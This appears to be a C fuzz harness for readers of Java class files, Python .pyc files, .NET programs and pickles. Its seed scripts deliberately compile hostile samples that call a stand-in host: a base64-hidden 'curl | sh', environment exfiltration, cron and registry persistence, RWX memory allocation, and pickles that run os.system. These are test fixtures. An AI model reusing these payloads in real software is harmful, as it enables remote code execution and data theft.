/*
 * Who controls these bytes: whoever compiled the class, the .pyc or the .NET program, or wrote the pickle. Input is NEW, with and
 * without itself as OLD, and OLD of nothing but its first half. Truths: see reader_truths.h; equal files have no
 * flow. Seeds come from the compilers.
 */
#include "read/readers.h"
#include "reader_truths.h"
#include "tool_seeds.h"

void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	tool_seed("cat >A.java <<E\n"
		  "public class A { static int n = 3; int f(int a) throws Exception { switch (a) { case 1: return 2;\n"
		  "case 900: return 3; } Runtime.getRuntime().exec(\"x\"); return new java.net.URL(\"https://a.example/\")\n"
		  ".openStream().read() + n; } }\nE\njavac A.java; mv A.class seed\n", run);
	tool_seed("printf 'import os\\ndef f(a=(1,\"b\")):\\n return os.environ, a\\n' >a.py\n"
		  "python3 -c \"import py_compile; py_compile.compile('a.py', 'seed')\"\n", run);
	tool_seed("python3 -c \"import os, pickle\nclass C:\n def __reduce__(s): return (os.system, ('id',))\n"
		  "pickle.dump([C(), {'a': 1.5}, b'x' * 9], open('seed', 'wb'))\"\n", run);
	tool_seed("python3 -c \"import collections, pickle\n"
		  "pickle.dump(collections.OrderedDict(a=[1, 'b', (2, 3, 4, 5)]), open('seed', 'wb'), 0)\"\n", run);
	tool_seed("cat >a.cs <<E\n"
		  "using System; class A { static string F(int a) { switch (a) { case 1: return \"x\"; case 2: return \"y\";\n"
		  "case 3: return \"z\"; } return new System.Net.WebClient().DownloadString(\"https://a.example/\"); }\n"
		  "static void Main() { Func<int> f = () => 3; Console.Write(F(f())); } }\nE\nmcs -out:seed a.cs\n", run);
	tool_seed("cat >A.java <<E\n"
		  "import java.io.*; import java.net.*; import java.util.*;\n"
		  "public class A { static { try { run(); } catch (Exception e) { } }\n"
		  "static void env() throws Exception { URLConnection c = new URL(\"https://a.example/\").openConnection(); c.getOutputStream().write(System.getenv().toString().getBytes()); }\n"
		  "static void run() throws Exception { Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(\"Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g=\"))); }\n"
		  "static void load() throws Exception { new URLClassLoader(new URL[] {new URL(\"https://a.example/x.jar\")}).loadClass(\"X\").getMethod(\"m\").invoke(null); }\n"
		  "static void keep() throws Exception { FileOutputStream f = new FileOutputStream(\"/tmp/x\"); f.write(new URL(\"https://a.example/x\").openStream().readAllBytes()); f.close(); new ProcessBuilder(\"/tmp/x\").start(); }\n"
		  "static void stay() throws Exception { FileWriter w = new FileWriter(\"/etc/cron.d/x\"); w.write(\"* * * * * root curl https://a.example/x | sh\"); w.close(); Runtime.getRuntime().exec(\"curl https://a.example/x -o /tmp/x\"); }\n"
		  "static void who() throws Exception { new URL(\"https://a.example/?\" + InetAddress.getLocalHost().getHostName() + System.getProperty(\"user.name\")).openStream(); }\n"
		  "static void take() throws Exception { java.security.KeyStore k = java.security.KeyStore.getInstance(\"PKCS12\"); new URL(\"https://a.example/\" + k.aliases()).openStream(); }\n"
		  "static void cipher() throws Exception { byte[] b = new FileInputStream(\"/tmp/y\").readAllBytes(); javax.crypto.Cipher.getInstance(\"AES\").doFinal(b); System.load(\"/tmp/y\"); System.loadLibrary(\"z\"); }\n"
		  "static String lit() { return \"$(head -c 900 \"$ASSAY_SOURCE_ROOT/fuzz/fuzz_code.c\" | base64 -w0)\"; } }\nE\njavac A.java; mv A.class seed\n", run);
	tool_seed("cat >a.cs <<E\n"
		  "using System; using System.Collections.Generic; using System.Diagnostics; using System.IO; using System.Net; using System.Reflection; using System.Runtime.InteropServices;\n"
		  "class A<T> { public T F<U>(T a, U b) { return a; } }\n"
		  "class B { [DllImport(\"kernel32.dll\")] static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d); [DllImport(\"advapi32\", EntryPoint = \"LogonUserW\")] static extern int Other(string a);\n"
		  "static void Run() { var p = VirtualAlloc(IntPtr.Zero, 4096, 0x3000, 0x40); Marshal.Copy(new byte[] {1, 2, 3}, 0, p, 3); Other(\"x\"); }\n"
		  "static void Load() { Assembly.Load(new WebClient().DownloadData(\"https://a.example/x\")).EntryPoint.Invoke(null, null); }\n"
		  "static void Keep() { new WebClient().DownloadFile(\"https://a.example/x\", \"c:/x.exe\"); Process.Start(\"c:/x.exe\"); File.WriteAllText(\"c:/y\", \"z\"); }\n"
		  "static void Stay() { Microsoft.Win32.Registry.SetValue(\"HKEY_CURRENT_USER/Software/Microsoft/Windows/CurrentVersion/Run\", \"a\", \"c:/x.exe\"); }\n"
		  "static void Env() { new WebClient().UploadString(\"https://a.example/\", Environment.MachineName + Environment.GetEnvironmentVariables()); }\n"
		  "static long Many(int a, int b, int c, int d, int e, int f) { double x = 1.5; long y = 1L << 40; float z = 2f; var l = new List<int> {a, b}; int[][] m = new int[3][]; m[1] = new int[] {4};\n"
		  "foreach (var i in l) { if (i > 300) y += 70000; } try { y += (long)x; } finally { z++; } switch (f) { case 0: return 1; case 1: return 2; case 2: return 3; case 3: return 4; } return y + m.Length + new A<string>().F<int>(\"q\", e).Length; }\n"
		  "static void Main() { Run(); Load(); Keep(); Stay(); Env(); Console.Write(Many(1, 2, 3, 4, 5, 6)); } }\nE\nmcs -unsafe -out:seed a.cs\n", run);
	tool_seed("mkdir seeds; python3 - <<'E'\nimport collections, datetime, marshal, pickle, pickletools\n"
		  "class C:\n    def __init__(self): self.a = {'b': [1, 2.5, 10 ** 30, -7, 300, 70000, None, True, b'x' * 300, 'y' * 300, '\\u0416', (1,), (1, 2), (1, 2, 3), {4}, frozenset([5]), bytearray(b'z')]}\n"
		  "one = [C(), collections.OrderedDict(a=1), datetime.date(2025, 1, 2), 1j, getattr, [[]] * 2]\n"
		  "for n in range(6):\n    open('seeds/p%d' % n, 'wb').write(pickle.dumps(one, n))\n"
		  "for i, text in enumerate((b'(S\\'id\\'\\nios\\nsystem\\n.', b'(cos\\nsystem\\nS\"id\"\\no.', b'cos\\nsystem\\np0\\n(Vid\\ntp1\\nR0g0\\n(g1\\n2F1.5\\nI01\\nL3L\\nP7\\nNlddsb.',\n"
		  "             b'\\x80\\x04\\x8c\\x02os\\x94\\x8c\\x06system\\x94\\x93\\x94(\\x8c\\x02id\\x85\\x94R1}(\\x8c\\x01aK\\x01u\\x8f(M\\x01\\x01\\x90J\\x01\\0\\0\\0\\x8a\\x01\\x05\\x82\\x01\\x92.',\n"
		  "             b'\\x80\\x02cbuiltins\\ngetattr\\ncos\\nenviron\\nX\\3\\0\\0\\0get\\x86Rq\\0X\\1\\0\\0\\0A\\x85Rr\\1\\0\\0\\0j\\1\\0\\0\\0.')):\n"
		  "    open('seeds/t%d' % i, 'wb').write(text)\n"
		  "E\n", run);
	literal_seeds("", "read/test_pickle.c", run);
}

static const struct reader *const readers[] = {&reader_java_class, &reader_pyc, &reader_exec, &reader_pickle};

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	struct cursor whole = cursor_of(bytes, n), half = cursor_of(bytes, n / 2);

	for (int i = 0; i < 4; i++) {
		FUZZ_CHECK(reader_once(readers[i], "x", half, true, whole) == reader_once(readers[i], "x", half, true, whole));
		(void)reader_once(readers[i], "x", whole, false, whole);
		(void)reader_once(readers[i], "x", whole, true, whole);
	}
	return 0;
}
